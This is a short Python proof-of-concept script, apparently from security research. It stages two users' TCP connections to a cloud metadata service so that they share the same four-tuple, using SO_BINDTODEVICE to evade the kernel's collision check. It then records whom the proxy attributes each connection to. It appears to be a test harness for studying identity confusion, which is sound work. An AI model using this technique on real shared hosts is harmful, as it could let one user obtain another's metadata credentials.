#!/usr/bin/python3
"""Leaves the port of a connection to another user, who then has the very same four-tuple.

usage: overlap.py UID OTHER DEVICE 4|6, run by root where the kernel has one port to give away
UID connects to the metadata service from the port that the kernel gives, asks who it is, and binds the socket to DEVICE, for which
whoever has not yet done so needs no capability (SO_BINDTODEVICE in socket(7), linux 5.7). To the kernel it is then no longer in the way
of OTHER's connection from the same port, by __inet_check_established() in net/ipv4/inet_hashtables.c. Prints one line of JSON: for whom
the proxy took each of both, and what UID's connection had afterwards.
"""
import json
import os
import socket
import sys

from imds import METADATA4, METADATA6, PORT, WHOAMI, identity, outcome, request, tcp

uid, other, device = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
family, host = (socket.AF_INET, METADATA4) if sys.argv[4] == "4" else (socket.AF_INET6, METADATA6)


def as_user(uid, act):
    """What `act` returns in a process of that user's, and what else it has made by then is kept open until the end of this program."""
    here, there = os.pipe()
    if os.fork() == 0:
        os.setgroups([])
        os.setresgid(uid, uid, uid)
        os.setresuid(uid, uid, uid)
        found = act()
        os.write(there, json.dumps(found).encode())
        os._exit(0)
    os.close(there)
    with os.fdopen(here) as said:
        return json.load(said)


def connected(s):
    s.connect((host, PORT))
    return [outcome(lambda: identity(s)), s.getsockname()[1]]


def hers():
    # It is made by her, and comes to root by SCM_RIGHTS, so that her process can end.
    with tcp(family, 40) as s:
        first = connected(s)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        socket.send_fds(give, [b"x"], [s.fileno()])
        return first


give, take = socket.socketpair()
alice = as_user(uid, hers)
_, (descriptor,), _, _ = socket.recv_fds(take, 1, 1)
with socket.socket(fileno=descriptor) as kept:
    def his():
        with tcp(family, 40) as s:
            return connected(s)

    bob = as_user(other, his)
    kept.settimeout(0.2)

    def afterwards():
        kept.sendall(request("GET", WHOAMI))
        return kept.recv(65536).decode("latin1")

    after = outcome(afterwards)
print(json.dumps({"first": alice[0], "second": bob[0], "samePort": alice[1] == bob[1], "after": after}))
